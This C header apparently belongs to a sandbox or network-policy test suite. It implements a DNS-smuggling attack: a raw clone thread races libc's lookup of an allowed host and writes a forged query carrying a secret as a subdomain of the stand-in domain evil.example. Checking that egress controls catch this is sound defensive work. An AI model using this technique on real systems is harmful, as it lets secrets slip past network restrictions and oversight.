/* For C attacks that write to libc's socket from a clone with the same fds. libc knows only one
 * thread, which looks up an allowed name at the same time. */
#ifndef LOOKUPS_H
#define LOOKUPS_H

#include "attack.h"
#include <netdb.h>
#include <sched.h>
#include <signal.h>

enum { SECONDS = 12, FDS = 16, TIMES = 3 };

static volatile int done, over;
static char stack[1 << 16] __attribute__((aligned(16)));
static char question[300];
static size_t size;

/* Makes system calls only, because libc does not know this thread. */
static int ask(void *unused)
{
    (void)unused;
    while (!over && done < TIMES)
        for (int fd = 3; fd < FDS; fd++) {
            struct sockaddr_in peer;
            socklen_t room = sizeof peer;
            if (syscall(SYS_getpeername, fd, &peer, &room) == 0 && peer.sin_port == htons(53) &&
                syscall(SYS_write, fd, question, size) == (long)size &&
                syscall(SYS_getpeername, fd, &peer, &room) == 0)
                done++;
        }
    syscall(SYS_exit, 0);
    return 0;
}

static int write_to_lookups(int flags)
{
    memcpy(question, "\x12\x34\x01\0\0\x01\0\0\0\0\0\0", 12);
    size = 12;
    question[size++] = (char)strlen(SECRET_);
    memcpy(question + size, SECRET_, strlen(SECRET_));
    size += strlen(SECRET_);
    memcpy(question + size, "\4evil\7example\0\0\1\0\1", 18);
    size += 18;
    time_t end = time(NULL) + patience(SECONDS);
    if (clone(ask, stack + sizeof stack, CLONE_VM | CLONE_FILES | flags, NULL) < 0)
        return stopped("clone");
    while (done < TIMES && time(NULL) < end) {
        struct addrinfo *found = NULL;
        if (getaddrinfo("api.allowed.example", "443", NULL, &found) == 0) freeaddrinfo(found);
    }
    over = 1;
    return done >= TIMES ? reached() : stopped("nothing was written");
}

#endif
